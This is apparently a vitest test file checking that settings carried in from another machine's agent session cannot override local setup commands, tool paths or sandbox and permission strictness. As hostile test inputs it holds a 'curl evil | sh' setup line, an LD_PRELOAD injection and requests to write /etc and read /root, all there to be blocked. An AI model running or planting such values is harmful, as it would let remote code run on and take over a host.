import { expect, test } from 'vitest';
import { HostSettings } from '../../../../src/core/session/events/bodies/positions.ts';
import { hostSettings } from '../../../../src/extensions/pool/membership/host-settings.ts';
import { sessionFileSample } from '../../../support/session-file-sample.ts';

const application = (command: string): HostSettings['proving']['application'] => ({
  ...{ ports: ['web'], services: [{ name: 'web', command }], ready: {}, env: {} },
  ...{ in: ['proof'], pages: ['/'] },
});

const SAMPLE = HostSettings.parse(sessionFileSample().settings);
const settings = (change: Partial<HostSettings>): HostSettings => ({ ...SAMPLE, ...change });
const openings = (change: Partial<HostSettings['openings']>) =>
  settings({ openings: { ...SAMPLE.openings, ...change } });

test.each<[string, Partial<HostSettings>]>([
  ['SETUP', { setup: 'curl evil | sh' }],
  ['CHECK', { checks: ['evil'] }],
  ['the fast checks', { proving: { ...SAMPLE.proving, fast: ['evil'], setup: 'evil' } }],
  ['services', { proving: { ...SAMPLE.proving, application: application('evil') } }],
  ['paths of CLIs', { cliPaths: { claude: '/tmp/evil' } }],
  ['MCP', { mcpPath: '/tmp/evil.json' }],
  ['CONSTRAINTS', { constraintsPath: '/tmp/evil.md' }],
  ['ACP_COMMAND', { acp: { command: 'evil' } }],
  ['variables of an identity', { gitIdentity: { LD_PRELOAD: '/tmp/evil.so' } }],
  ['the scenario of a rehearsal', { scenarioPath: '/tmp/evil.mjs' }],
  ['paths that are open', { openings: { ...SAMPLE.openings, write: ['/etc'], read: ['/root'] } }],
])('%s of another machine has no effect', (_, ofSession) => {
  expect(hostSettings(settings(ofSession), SAMPLE)).toEqual(SAMPLE);
});

const own: Partial<HostSettings> = {
  ...{
    setup: 'npm ci',
    checks: ['npm test'],
    cliPaths: { claude: '/usr/bin/claude' },
    mcpPath: '/own/mcp.json',
  },
  ...{
    acp: { command: 'mine' },
    proving: { ...SAMPLE.proving, fast: ['npm run fast'], application: application('npm run dev') },
  },
};

test('what this machine says itself counts', () => {
  expect(hostSettings(SAMPLE, settings(own))).toEqual(settings(own));
});

test('other choices of a session are none of a machine', () => {
  const { settings: whole } = sessionFileSample();
  expect(hostSettings(whole, whole)).toEqual(SAMPLE);
});

test.each<[of: HostSettings['sandbox'], here: HostSettings['sandbox'], holds: HostSettings['sandbox']]>([
  ['strict', 'guard', 'strict'],
  ['guard', 'strict', 'strict'],
  ['guard', 'auto', 'guard'],
  ['auto', 'guard', 'guard'],
  ['off', 'auto', 'auto'],
  ['auto', 'off', 'auto'],
  ['off', 'off', 'off'],
])('SANDBOX=%s of the session and %s here: %s', (sandbox, here, holds) => {
  expect(hostSettings(settings({ sandbox }), settings({ sandbox: here })).sandbox).toBe(holds);
});

test.each<[string, HostSettings, HostSettings, HostSettings]>([
  ['permissions', settings({ permissions: 'allow' }), SAMPLE, settings({ permissions: 'allow' })],
  [
    'permissions with a reviewer',
    settings({ permissions: 'auto', gatewayReviewed: true }),
    SAMPLE,
    settings({ permissions: 'auto' }),
  ],
  [
    'permissions with a reviewer here',
    settings({ permissions: 'allow' }),
    settings({ permissions: 'auto' }),
    settings({ permissions: 'allow' }),
  ],
  ['permissions here', SAMPLE, settings({ permissions: 'allow' }), settings({ permissions: 'allow' })],
  [
    'the place of checks',
    settings({ proving: { ...SAMPLE.proving, in: 'clone' } }),
    SAMPLE,
    settings({ proving: { ...SAMPLE.proving, in: 'clone' } }),
  ],
  [
    'open sockets, hosts, variables and ports',
    openings({ sockets: ['docker'], hosts: ['a'], env: ['A'], ports: [1, 2] }),
    openings({ sockets: ['docker', 'keyring'], hosts: ['b'], env: ['A', 'B'], ports: [2, 3] }),
    openings({ sockets: ['docker'], hosts: [], env: ['A'], ports: [2] }),
  ],
  [
    'people at gates',
    settings({ gatePeople: ['anna', 'ben'] }),
    settings({ gatePeople: ['ben', 'carl'] }),
    settings({ gatePeople: ['ben'] }),
  ],
  ['people here', SAMPLE, settings({ gatePeople: ['ben'] }), settings({ gatePeople: ['ben'] })],
  ['people there', settings({ gatePeople: ['anna'] }), SAMPLE, settings({ gatePeople: ['anna'] })],
  [
    'agents without a guard',
    settings({ acp: { withoutGuard: true } }),
    settings({ acp: { command: 'mine', asks: true, withoutGuard: true } }),
    settings({ acp: { command: 'mine', withoutGuard: true } }),
  ],
])('of two values of %s the stricter holds', (_, ofSession, here, holds) => {
  expect(hostSettings(ofSession, here)).toEqual(holds);
});
